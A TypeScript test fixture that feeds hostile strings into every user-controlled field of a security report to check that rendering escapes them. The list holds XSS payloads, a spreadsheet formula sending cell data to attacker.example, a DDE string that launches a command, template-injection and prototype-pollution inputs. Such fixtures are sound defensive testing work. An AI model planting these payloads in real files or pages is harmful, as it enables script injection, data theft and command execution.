import type { ReportInput } from '../../shared/reports/report-input.ts';
import { reportSample } from './report-sample.ts';

/** Texts that people with bad intent put into tags, aliases, descriptions and names of sessions. */
export const hostileTexts: readonly string[] = [
  '<script>window.hacked = true</script>',
  '"><img src=x onerror="window.hacked=true">',
  "'-alert(1)-'",
  '</script><script>window.hacked = true</script>',
  '</title></style></textarea><svg onload=window.hacked=true>',
  '<!-- never closed',
  ']]>',
  '=HYPERLINK("https://attacker.example/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'javascript:alert(1)',
  '\u202Egnp.exe\u202C \u2066\u2067',
  'مفتاح التشفير الرئيسي',
  'Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035Aalgo',
  '\u0000\u0008\u001B[31mred',
  '&lt;b&gt;&#60;',
  'x'.repeat(256_000),
  'a b '.repeat(64_000),
  '${7*7}{{7*7}}',
  '__proto__',
];

/** The report with `text` in every place where somebody else's text can stand. */
export const hostileReport = (text: string, keys = 24): ReportInput => {
  const sample = reportSample(keys);
  const { sweep } = sample;
  return {
    ...sample,
    title: text,
    accountNames: Object.fromEntries(Object.keys(sample.accountNames).map((account) => [account, text])),
    sweep:
      sweep === null
        ? null
        : {
            ...sweep,
            regions: sweep.regions.map((region) => ({ ...region, reason: region.reason === null ? null : text })),
            unreadable: sweep.unreadable.map((key) => ({ ...key, lacks: [{ permission: text, reason: text }] })),
          },
    keyRows:
      sample.keyRows?.map((row) => ({
        ...row,
        aliases: row.aliases === null ? null : row.aliases.map(() => `alias/${text}`),
        tags: { [text]: text, team: text },
        created: text,
        keySpec: text,
        keyUsage: text,
        origin: text,
      })) ?? null,
    findings: sample.findings.map((finding, at) => ({
      ...finding,
      rule: at % 5 === 0 ? text : finding.rule,
      firstSeen: at % 7 === 0 ? text : finding.firstSeen,
      message: text,
      remediation: text,
      aliases: finding.aliases.map(() => `alias/${text}`),
      data: { [`d ${text}`]: text, list: [text], reasons: [{ id: text, text }] },
    })),
    actions:
      sample.actions?.map((action) => ({
        ...action,
        actor: text,
        before: text,
        after: text,
        approvedBy: text,
        outcomes: action.outcomes.map((outcome) => ({ ...outcome, detail: text })),
      })) ?? null,
    approvals:
      sample.approvals?.map((approval) => ({ ...approval, requestedBy: text, decidedBy: text, reason: text })) ?? null,
    waivers:
      sample.waivers?.map((waiver) => ({
        ...waiver,
        rule: text,
        keys: [text],
        owner: text,
        reason: text,
        approvedBy: text,
      })) ?? null,
    rules: sample.rules.map((rule) => ({ ...rule, remediation: text, controls: rule.controls.map(() => text) })),
  };
};
